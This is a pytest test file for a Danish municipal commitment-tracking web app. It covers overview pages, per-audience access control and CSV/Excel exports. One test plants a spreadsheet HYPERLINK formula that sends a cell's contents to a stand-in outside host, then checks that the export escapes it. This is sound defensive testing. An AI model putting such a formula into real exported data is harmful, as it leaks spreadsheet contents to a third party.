"""The overview drawn and as a table, and promises as files in which nothing is run."""

import csv
import re
import zipfile
from io import BytesIO, StringIO

import pytest
from django.utils import timezone

from interfaces.web.samples import CANARY, QUOTE
from raadhus.domains.followup import changes
from raadhus.domains.followup.models import Commitment
from raadhus.foundation.accounts.models import AudienceMember
from raadhus.foundation.accounts.queries import Operator
from raadhus.interfaces.web.exports import safe
from raadhus.pure.documents.read.workbook import read_workbook

BYS = ["post", "body", "case", "agreement", "age", "lateness", "ukendt"]
FORMULA = '=HYPERLINK("https://ude.example/?"&A1;"Klik")'


@pytest.fixture
def promise(winter) -> Commitment:
    row = Commitment.objects.get(quote=QUOTE)
    changes.accept_commitment(commitment=row, by=Operator(), at=timezone.now())
    return Commitment.objects.get(pk=row.pk)


@pytest.mark.parametrize("by", BYS)
def test_the_figures_are_drawn_with_the_answer_in_words_and_the_table_beside(employee, promise, by):
    page = employee.get(f"/opfoelgning/overblik/?efter={by}").text
    assert "<b>1</b> åbent" in page
    assert "<b>1</b> over tiden" in page
    assert "«: 1, heraf 1 over tiden." in page
    assert '<rect class="bar-late"' in page
    assert '<table class="list">' in page
    assert "1 venter på et ja eller nej" in page


def test_by_post_it_says_who_owes_most_and_leads_to_the_list(employee, promise):
    page = employee.get("/opfoelgning/overblik/").text
    assert "Flest åbne har »Økonomichefen«: 1" in page
    assert f"?post={promise.post_id}&amp;status=accepted" in page


def test_where_nothing_was_said_yes_to_the_way_to_what_waits_is_shown(employee, winter):
    page = employee.get("/opfoelgning/overblik/").text
    assert "Et løfte tæller med, når nogen har sagt ja til det." in page
    assert "Gå til de foreslåede" in page


def test_figures_of_one_reader_are_not_shown_to_another(administrator, outsider, promise):
    Commitment.objects.filter(pk=promise.pk).update(audience=None)
    assert "<b>1</b> åbent" in administrator.get("/opfoelgning/overblik/").text
    assert "<b>0</b> åbne" in outsider.get("/opfoelgning/overblik/").text


def test_who_leaves_an_audience_is_shown_other_figures_and_names_at_once(member, winter, promise):
    Commitment.objects.filter(pk=promise.pk).update(audience=winter.body.closed_audience)
    Commitment.objects.exclude(pk=promise.pk).update(audience=None)
    assert "<b>1</b> åbent" in member.get("/opfoelgning/overblik/").text
    assert '<option value="Økonomichefen">' in member.get("/opfoelgning/").text
    AudienceMember.objects.all().delete()
    assert "<b>0</b> åbne" in member.get("/opfoelgning/overblik/").text
    page = member.get("/opfoelgning/").text
    assert QUOTE not in page
    assert '<option value="Økonomichefen">' not in page


def _csv(answer) -> list[list[str]]:
    text = b"".join(answer.streaming_content).decode("utf-8-sig")
    return list(csv.reader(StringIO(text), delimiter=";"))


def test_the_list_goes_out_as_csv_and_excel_with_its_filters(employee, promise):
    head, row = _csv(employee.get("/opfoelgning/loefter.csv?status=accepted"))
    told = dict(zip(head, row, strict=True))
    assert (told["Hvad der står"], told["Hvem svarer for det"], told["Senest"]) == (
        QUOTE,
        "Økonomichefen",
        "21-01-2022",
    )
    assert len(_csv(employee.get("/opfoelgning/loefter.csv?status=rejected"))) == 1
    rows = read_workbook(employee.get("/opfoelgning/loefter.xlsx").content, "loefter.xlsx").sheets[0].rows
    assert [max(rows), rows[2][5].value] == [3, QUOTE]
    assert employee.get("/opfoelgning/loefter.pdf").status_code == 404


def test_a_formula_as_an_answer_stays_a_text(employee, promise):
    Commitment.objects.filter(pk=promise.pk).update(answer=FORMULA, task="+45 12 34 56 78")
    head, row = _csv(employee.get("/opfoelgning/loefter.csv?status=accepted"))
    told = dict(zip(head, row, strict=True))
    assert (told["Svar"], told["Hvad der skal gøres"]) == (f"'{FORMULA}", "'+45 12 34 56 78")
    content = employee.get("/opfoelgning/loefter.xlsx?status=accepted").content
    cell = read_workbook(content, "loefter.xlsx").sheets[0].rows[2][15]
    assert (cell.value, cell.formula) == (FORMULA, "")
    assert re.search(r'<xf [^>]*quotePrefix="1"', zipfile.ZipFile(BytesIO(content)).read("xl/styles.xml").decode())


def test_a_formula_as_an_agreement_stays_a_text_in_the_figures(employee, promise):
    Commitment.objects.filter(pk=promise.pk).update(agreement="@SUM(1)")
    rows = _csv(employee.get("/opfoelgning/overblik/?efter=agreement&form=csv"))
    assert rows[1] == ["'@SUM(1)", "1", "1", "0", "0"]


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "  =", "＝"])
def test_what_a_spreadsheet_would_run_gets_a_mark_before_it(sign):
    assert safe(f"{sign}1+1") == f"'{sign}1+1"
    assert (safe("1+1"), safe(-3), safe("Fri-tekst")) == ("1+1", -3, "Fri-tekst")


def test_no_file_holds_what_its_reader_may_not_see(employee, promise):
    Commitment.objects.filter(pk=promise.pk).update(audience=None)
    rows = _csv(employee.get("/opfoelgning/loefter.csv"))
    assert all(QUOTE not in row and CANARY not in row for row in rows)
